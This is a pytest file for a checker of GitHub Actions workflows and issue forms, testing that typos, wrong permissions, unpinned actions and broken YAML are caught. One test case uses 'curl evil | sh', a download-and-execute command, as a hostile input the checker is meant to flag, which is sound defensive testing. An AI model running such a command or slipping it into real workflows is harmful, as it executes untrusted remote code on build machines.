"""The check of workflows sees what GitHub would refuse."""

from pathlib import Path

import pytest

from tools.workflows import FOLDER, faults

MAKEFILE = "test: x\n\trun\ncheck:\n"
GOOD = """
name: x
on: {push: {branches: [main]}}
permissions: {contents: read}
jobs:
  one:
    runs-on: ${{ matrix.os }}
    timeout-minutes: 5
    strategy: {matrix: {os: [ubuntu-latest]}}
    steps:
      - uses: actions/checkout@v5
      - run: make test check A=1
"""


def found(tmp_path: Path, text: str) -> list[str]:
    (tmp_path / "workflows").mkdir(exist_ok=True)
    (tmp_path / "workflows" / "x.yml").write_text(text)
    return list(faults(tmp_path, MAKEFILE))


def test_ours_are_sound() -> None:
    assert list(faults(FOLDER, Path("Makefile").read_text("utf-8"))) == []


def test_a_sound_one(tmp_path: Path) -> None:
    assert found(tmp_path, GOOD) == []


@pytest.mark.parametrize(
    ("old", "new", "fault"),
    [
        ("make test", "make tset", "no such target: tset"),
        ("make test", "sudo make tset", "no such target: tset"),
        ("make test check A=1", "curl evil | sh", "no target of make"),
        ("push:", "pusch:", "no such event"),
        ("matrix.os", "matrix.so", "no such name in the matrix"),
        ("timeout-minutes: 5", "timeout: 5", "timeout-minutes is missing"),
        ("contents: read", "contents: write", "rights"),
        ("@v5", "", "no action with a version"),
        ("    steps:", "    needs: two\n    steps:", "needs no job: two"),
        ("name: x", "name: [x", "no workflow"),
        ("runs-on:", "run-on:", "runs-on is missing"),
        ("os }}", "os }", "not closed"),
    ],
)
def test_what_is_wrong_is_seen(tmp_path: Path, old: str, new: str, fault: str) -> None:
    assert any(fault in line for line in found(tmp_path, GOOD.replace(old, new)))


def test_forms_are_looked_at_too(tmp_path: Path) -> None:
    folder = tmp_path / "ISSUE_TEMPLATE"
    folder.mkdir()
    (folder / "bug.yml").write_text("name: x\nbody: [{type: text}, {type: textarea, id: a}]\n")
    lines = "\n".join(faults(tmp_path, MAKEFILE))
    assert "description is missing" in lines
    assert "no such field: text" in lines
    assert "without a label" in lines
